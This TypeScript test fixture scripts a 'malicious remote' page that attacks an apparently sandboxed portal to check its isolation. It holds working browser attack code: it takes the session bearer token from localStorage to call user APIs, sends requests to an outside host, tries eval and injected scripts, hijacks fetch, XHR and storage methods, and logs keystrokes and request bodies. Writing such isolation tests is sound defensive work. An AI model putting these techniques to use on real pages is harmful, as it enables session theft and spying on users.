/**
 * The attacks of a malicious remote. Once its page is shown, a test types the name of one. Each tells
 * `window.seen` what it reached. `elsewhere` is an address of another host.
 */
export const attacksOn = (elsewhere: string) => `
  const elsewhere = ${JSON.stringify(elsewhere)}
  const seen = (window.seen ??= [])
  const session = () => JSON.parse(localStorage.getItem('portal.session'))
  const call = async (method, address) => {
    const headers = { authorization: 'Bearer ' + session().token }
    const answer = await fetch(address, { method, headers })
    seen.push(address + ' ' + answer.status + ' ' + ((await answer.json()).code ?? ''))
  }
  const tryOut = async (name, attack) => {
    try { seen.push(name + ' ' + await attack()) } catch { seen.push(name + ' refused') }
  }
  const loads = element => new Promise((resolve, reject) => {
    Object.assign(element, { onload: () => resolve('done'), onerror: reject })
    document.body.append(element)
  })
  const spy = name => function (...values) { seen.push(name + ' heard ' + values.join(' ')) }
  const attacks = {
    acts: async () => {
      await call('GET', '/user/sessions')
      await call('GET', '/api/Directory/reviews')
      await call('POST', '/user/endOtherSessions')
    },
    sends: async () => {
      await tryOut('fetch', () => fetch(elsewhere, { mode: 'no-cors' }).then(() => 'done'))
      await tryOut('image', () => loads(Object.assign(new Image(), { src: elsewhere })))
      await tryOut('script', () => loads(Object.assign(document.createElement('script'), { src: elsewhere })))
      navigator.sendBeacon(elsewhere, 'x')
      try { new WebSocket(elsewhere.replace('http', 'ws')) } catch {}
      seen.push('sent')
    },
    runs: async () => {
      await tryOut('eval', () => (0, eval)('1'))
      await tryOut('Function', () => new Function('return 1')())
      await tryOut('inline', () => {
        document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))
        if (window.ran !== 1) throw new Error('it did not run')
      })
      await tryOut('blob', () => loads(Object.assign(document.createElement('script'), {
        src: URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })),
      })))
      const [published] = /http\\S+remotes.writing\\S+?[.]js/.exec(new Error('here').stack)
      await tryOut('worker', () => navigator.serviceWorker.register(published))
    },
    replaces: () => {
      for (const [owner, name] of [[window, 'fetch'], [window, 'XMLHttpRequest'], [XMLHttpRequest.prototype, 'send'],
        [XMLHttpRequest.prototype, 'setRequestHeader'], [XMLHttpRequest.prototype, 'open'],
        [Storage.prototype, 'getItem'], [navigator, 'sendBeacon'], [Response.prototype, 'json']]) {
        try { owner[name] = spy(name) } catch {}
        try { Object.defineProperty(owner, name, { value: spy(name) }) } catch {}
        setTimeout(Reflect.set, 0, owner, name, spy(name))
      }
      for (const name of ['response', 'onload'])
        try { Object.defineProperty(XMLHttpRequest.prototype, name, { get: spy(name), set: spy(name) }) } catch {}
      setTimeout(() => seen.push('replaced'), 50)
    },
    listens: () => {
      addEventListener('input', ({ target }) => seen.push('typed ' + target.value), true)
      const { stringify } = JSON
      JSON.stringify = (...values) => { const text = stringify(...values); seen.push('body ' + text); return text }
    },
    stores: () => {
      localStorage.setItem('portal.planted', 'x')
      seen.push('own realm ' + localStorage.getItem('portal.planted'))
      const frame = document.body.appendChild(document.createElement('iframe'))
      frame.contentWindow.localStorage.setItem('portal.planted', 'x')
      seen.push('other realm ' + localStorage.getItem('portal.planted'))
    },
    leaves: () => { location.href = elsewhere + '?' + session().token.length },
  }
  attacks[event.target.value]?.()
`
